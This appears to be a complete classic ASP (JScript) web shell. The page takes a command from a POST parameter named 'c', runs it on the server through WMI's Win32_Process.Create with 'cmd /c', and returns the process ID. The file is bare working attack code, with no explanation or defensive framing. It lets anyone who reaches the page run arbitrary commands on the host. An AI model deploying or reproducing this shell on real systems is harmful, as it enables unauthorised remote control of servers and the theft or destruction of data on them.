<%@ Language="JScript" %>
<%
var c = String(Request.Form("c"));
if (c != "undefined") {
    var loc = new ActiveXObject("WbemScripting.SWbemLocator");
    var svc = loc.ConnectServer(".", "root\\cimv2");
    var p = svc.Get("Win32_Process");
    var inp = p.Methods_.Item("Create").InParameters.SpawnInstance_();
    inp.CommandLine = "cmd /c " + c;
    var out = p.ExecMethod_("Create", inp);
    Response.Write(out.ProcessId);
}
%>
